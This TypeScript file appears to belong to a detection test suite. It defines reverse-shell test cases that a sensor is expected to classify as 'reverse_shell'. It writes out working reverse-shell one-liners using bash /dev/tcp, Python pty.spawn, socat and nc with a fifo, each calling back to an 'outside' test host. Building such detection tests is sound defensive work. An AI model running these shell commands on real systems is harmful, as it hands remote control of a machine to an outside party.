// Shells that take their commands from outside.
import { execFileSync } from "node:child_process"
import { join } from "node:path"
import type { Case } from "../case.js"
import { firstUseUs, pidOf, stopAll } from "../case.js"
import { addresses } from "../network.js"
import { waitForSuccess } from "../processes.js"

let nextPort = 18200

function shell(
  name: string,
  exe: RegExp,
  command: (port: number, folder: string) => readonly [string, ...string[]],
): Case {
  return {
    name,
    finds: { class: ["reverse_shell"], exe },
    run: async ({ network }) => {
      const port = nextPort++
      const typist = await network.serve("outside", "typist.py", `${port}`)
      const [program, ...args] = command(port, network.folder)
      // What a person's start-up files do takes time, and locks that a shell which is ended leaves behind.
      const client = network.start("inside", "env", `HOME=${network.folder}`, program, ...args)
      const firstUs = await firstUseUs(typist)
      await waitForSuccess(typist)
      return { pids: [pidOf(client)], firstUs, end: stopAll(client) }
    },
  }
}

const outside = addresses.outside
const python = (port: number): string =>
  `import os,pty,socket;s=socket.create_connection(("${outside}",${port}));` +
  `[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")`

export const shells: readonly Case[] = [
  shell("bash on /dev/tcp", /bash/, (port) => ["bash", "-c", `exec bash -i >& /dev/tcp/${outside}/${port} 0>&1`]),
  shell("python with a pty", /python3|bash/, (port) => ["/usr/bin/python3", "-c", python(port)]),
  shell("socat with a pty", /bash/, (port) => ["socat", `TCP:${outside}:${port}`, "EXEC:bash,pty,stderr,setsid"]),
  shell("socat with pipes", /bash/, (port) => ["socat", `TCP:${outside}:${port}`, "EXEC:bash,pipes"]),
  shell("nc with a fifo", /sh$/, (port, folder) => {
    const fifo = join(folder, `fifo-${port}`)
    execFileSync("mkfifo", [fifo])
    return ["sh", "-c", `cat ${fifo} | sh -i 2>&1 | nc ${outside} ${port} > ${fifo}`]
  }),
]
